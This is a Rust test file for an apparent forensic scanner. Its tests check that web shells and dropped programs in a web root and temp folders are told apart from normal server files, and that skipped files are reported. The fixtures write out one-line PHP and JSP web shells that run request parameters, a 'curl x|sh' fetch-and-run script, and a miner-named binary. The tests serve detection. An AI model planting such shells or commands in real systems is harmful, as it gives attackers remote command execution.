//! Is what an attack leaves told from what servers write, and is all said that was not looked at?

use std::os::unix::fs::{PermissionsExt as _, symlink};

use super::*;

fn look(root: &Path, seconds: (i64, i64)) -> Vec<(String, &'static str)> {
    let found = whole(root, seconds, &|| false);
    assert!(found.missing.is_empty(), "{:?}", found.missing);
    found.files.into_iter().map(|file| (escaped(&file.path), file.what)).collect()
}

fn whole(root: &Path, seconds: (i64, i64), is_over: &dyn Fn() -> bool) -> Found {
    let now = Timestamp::from_system(std::time::SystemTime::now());
    let window =
        Window { from: Timestamp(now.0 + seconds.0 * 1_000_000), to: Timestamp(now.0 + seconds.1 * 1_000_000) };
    let served = [PathBuf::from("/srv/www"), PathBuf::from("/srv/none")];
    let uid = rustix::process::getuid().as_raw();
    dropped(&Look { root, served: &served, uid, window, is_over })
}

fn write(root: &Path, path: &str, text: &[u8], mode: u32) {
    let path = root.join(path);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, text).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn what_an_attack_leaves_is_told_from_what_servers_write() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    write(root, "srv/www/up/x.PHP", b"<?php @eval($_POST['c']); ?>", 0o644);
    write(root, "srv/www/a/b.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", 0o644);
    write(root, "srv/www/cgi-bin/t", b"\x7fELF\x02", 0o755);
    write(root, "tmp/.x/kdevtmpfsi", b"\x7fELF\x02", 0o755);
    write(root, "var/tmp/run", b"#!/bin/sh\ncurl x|sh\n", 0o700);
    // Caches, pages, uploads, programs that may not be run.
    write(root, "srv/www/cache/1.php", b"<?php return ['a' => 1]; ?>", 0o644);
    write(root, "srv/www/form.php", b"<?php echo htmlspecialchars($_GET['q']); ?>", 0o644);
    write(root, "srv/www/up/x.jpg", b"<?php @eval($_POST['c']); ?>", 0o644);
    write(root, "tmp/data", b"\x7fELF\x02", 0o644);
    write(root, "home/x.php", b"<?php @eval($_POST['c']); ?>", 0o755);
    write(root, "secret/y.php", b"<?php @eval($_POST['c']); ?>", 0o755);
    symlink("/secret", root.join("srv/www/link")).unwrap();
    symlink("/secret/y.php", root.join("srv/www/y.php")).unwrap();
    let mut found = look(root, (-30, 30));
    found.sort();
    assert_eq!(
        found,
        [
            ("/srv/www/a/b.jsp".to_owned(), "a web shell"),
            ("/srv/www/cgi-bin/t".to_owned(), "an executable program"),
            ("/srv/www/up/x.PHP".to_owned(), "a web shell"),
            ("/tmp/.x/kdevtmpfsi".to_owned(), "an executable program"),
            ("/var/tmp/run".to_owned(), "an executable script"),
        ]
    );
    assert_eq!(look(root, (-90, -60)), [], "what was there before");
}

#[test]
fn a_time_of_writing_that_was_set_back_hides_nothing() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "srv/www/x.php", b"<?php system($_GET['c']); ?>", 0o644);
    let file = std::fs::File::options().write(true).open(folder.path().join("srv/www/x.php")).unwrap();
    file.set_modified(std::time::UNIX_EPOCH).unwrap();
    assert_eq!(look(folder.path(), (-30, 30)).len(), 1);
}

#[test]
fn a_name_that_is_no_text_hides_nothing_either() {
    let folder = tempfile::tempdir().unwrap();
    let below = folder.path().join("srv/www").join(OsStr::from_bytes(b"\xfc\x1b"));
    std::fs::create_dir_all(&below).unwrap();
    std::fs::write(below.join(OsStr::from_bytes(b"x\xff.php")), b"<?php system($_GET['c']); ?>").unwrap();
    assert_eq!(look(folder.path(), (-30, 30)), [(r"/srv/www/\xfc\u{1b}/x\xff.php".to_owned(), "a web shell")]);
}

#[test]
fn whatever_was_not_looked_at_is_said() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    for number in 0..READ_MAX + 7 {
        write(root, &format!("srv/www/{number}.php"), b"<?php return 1;", 0o644);
    }
    let said = whole(root, (-30, 30), &|| false).missing;
    assert!(said.len() == 1 && said[0].ends_with("and 6 more: appeared, and was not read: too many did"), "{said:?}");

    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    write(root, "srv/www/large.php", &b"<?php return 1;".repeat(10_000), 0o644);
    write(root, &format!("srv/www/{}/x.php", "d/".repeat(DEPTH_MAX + 1)), b"<?php system($_GET['c']);", 0o644);
    for number in 0..FILES_MAX + 2 {
        write(root, &format!("tmp/{number}"), b"#!/bin/sh\n", 0o755);
    }
    let said = whole(root, (-30, 30), &|| false).missing.join("; ");
    for reason in [
        "/srv/www/large.php: appeared, and only its first 64 KiB were read",
        "deeper than 12 folders",
        "and 1 more: appeared too, and no more are told",
    ] {
        assert!(said.contains(reason), "{reason}: {said}");
    }
    for number in 0..1100 {
        write(root, &format!("srv/www/many/{number}"), b"", 0o644);
    }
    let said = whole(root, (-30, 30), &|| true).missing.join("; ");
    assert!(said.contains("the time is over"), "{said}");
}
